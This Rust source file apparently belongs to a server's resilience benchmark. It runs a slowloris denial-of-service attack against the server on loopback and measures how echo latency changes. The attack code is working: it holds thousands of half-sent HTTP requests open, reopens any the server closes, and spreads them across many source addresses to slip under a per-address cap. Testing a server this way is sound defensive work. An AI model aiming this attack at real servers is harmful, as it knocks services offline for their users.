//! slowloris: the echo latency of a few well-behaved clients, first alone, then while an
//! attacker holds thousands of half-sent HTTP requests open (reopening each one the server
//! closes, as a real slowloris does).
//!
//! The attack comes from many loopback addresses (127.0.1.x), 250 connections each, under
//! wfs's per-address cap, as a botnet's would.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use super::{EchoOptions, EchoResult, WAIT, echo};
use crate::Target;
use crate::procfs;

#[derive(Debug, Clone)]
pub struct SlowlorisOptions {
    /// Half-open connections the attacker keeps.
    pub attack: usize,
    /// The well-behaved echo clients, and how long each echo phase is measured.
    pub echo: EchoOptions,
}

#[derive(Debug, Clone, Serialize)]
pub struct SlowlorisResult {
    pub scenario: &'static str,
    pub attack_connections: usize,
    /// Attack connections open when the measurement under attack began.
    pub attack_held_at_start: usize,
    /// Attack connections the server closed (and the attacker reopened) during the attack.
    pub attack_closed_by_server: usize,
    /// Attack connections that could not be opened at all.
    pub attack_failed: usize,
    pub server_sockets_during: Option<usize>,
    pub server_rss_kib_during: Option<u64>,
    pub without_attack: EchoResult,
    pub during_attack: EchoResult,
}

/// A request cut short before the blank line that ends its head.
const HALF_REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\nX-a: ";

/// Connections per attacking address: under wfs's default cap of 256.
const PER_ADDRESS: usize = 250;

async fn open_half(from: Ipv4Addr, server: SocketAddr) -> anyhow::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::V4(from), 0))?;
    let mut stream = tokio::time::timeout(WAIT, socket.connect(server)).await??;
    stream.write_all(HALF_REQUEST).await?;
    Ok(stream)
}

/// One attack connection, for as long as `stop` is not set: opened, held, and reopened each
/// time the server closes it. Counts what happened.
async fn hold(
    from: Ipv4Addr,
    server: SocketAddr,
    open: Arc<AtomicUsize>,
    closed: Arc<AtomicUsize>,
    failed: Arc<AtomicUsize>,
    stop: tokio::sync::watch::Receiver<bool>,
) {
    let mut stop = stop;
    while !*stop.borrow() {
        let mut stream = match open_half(from, server).await {
            Ok(stream) => stream,
            Err(_) => {
                failed.fetch_add(1, Ordering::Relaxed);
                tokio::select! {
                    _ = stop.changed() => return,
                    () = tokio::time::sleep(Duration::from_millis(200)) => continue,
                }
            }
        };
        open.fetch_add(1, Ordering::Relaxed);
        let mut buffer = [0u8; 512];
        let ended = tokio::select! {
            _ = stop.changed() => true,
            _ = stream.read(&mut buffer) => false,
        };
        open.fetch_sub(1, Ordering::Relaxed);
        if ended {
            return;
        }
        closed.fetch_add(1, Ordering::Relaxed);
    }
}

pub async fn slowloris(
    target: &Target,
    options: &SlowlorisOptions,
) -> anyhow::Result<SlowlorisResult> {
    let without_attack = echo(target, &options.echo).await?;
    let (open, closed, failed) = (
        Arc::new(AtomicUsize::new(0)),
        Arc::new(AtomicUsize::new(0)),
        Arc::new(AtomicUsize::new(0)),
    );
    let (stop, stopped) = tokio::sync::watch::channel(false);
    let mut attackers = tokio::task::JoinSet::new();
    for n in 0..options.attack {
        let block = u8::try_from(n / PER_ADDRESS).unwrap_or(u8::MAX);
        let from = Ipv4Addr::new(127, 0, 1, 1_u8.saturating_add(block));
        attackers.spawn(hold(
            from,
            target.address,
            open.clone(),
            closed.clone(),
            failed.clone(),
            stopped.clone(),
        ));
        // Connects spread a little, so the listen backlog never overflows.
        if n % 200 == 199 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    // Bounded wait until the attack is in place.
    let deadline = tokio::time::Instant::now() + WAIT;
    while open.load(Ordering::Relaxed) + failed.load(Ordering::Relaxed) < options.attack
        && tokio::time::Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let attack_held_at_start = open.load(Ordering::Relaxed);
    let closed_before = closed.load(Ordering::Relaxed);
    let server_sockets_during = target.pid.and_then(procfs::sockets);
    let server_rss_kib_during = target.pid.and_then(procfs::rss_kib);
    let during_attack = echo(target, &options.echo).await;
    let attack_closed_by_server = closed.load(Ordering::Relaxed) - closed_before;
    stop.send_replace(true);
    while tokio::time::timeout(WAIT, attackers.join_next())
        .await
        .ok()
        .flatten()
        .is_some()
    {}
    Ok(SlowlorisResult {
        scenario: "slowloris",
        attack_connections: options.attack,
        attack_held_at_start,
        attack_closed_by_server,
        attack_failed: failed.load(Ordering::Relaxed),
        server_sockets_during,
        server_rss_kib_during,
        without_attack,
        during_attack: during_attack?,
    })
}
